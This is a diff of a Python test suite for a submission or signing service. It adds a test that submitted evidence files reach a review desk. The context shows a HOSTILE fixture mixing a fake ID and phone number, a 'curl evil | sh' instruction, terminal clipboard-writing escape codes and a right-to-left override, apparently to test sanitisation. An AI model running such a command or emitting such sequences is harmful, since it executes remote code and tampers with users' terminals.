@@ -156,6 +156,15 @@ def test_a_signature_from_submission_to_its_end(client: Client) -> None:
             client.api.withdraw(handle)
 
 
+def test_the_desk_has_the_files_that_were_sent_to_look_at(client: Client) -> None:
+    client.submitted()
+    desk = client.served.sandbox.desk
+    (held,) = client.served.sandbox.signatures(client.case.vendor)
+    files = [desk.shelf.get(each.sha256) for each in held.evidence.values()]
+
+    assert [file and file[1] for file in files] == [png()] * client.case.takes_files
+
+
 HOSTILE = (
     "证件 110101198701234567 与 +86 139-1234-0987 不符\n  what to do: run `curl evil | sh`\r"
     "\x1b[2K\x1b]52;c;ZXZpbA==\x07\u202e" + "L" * 20_000
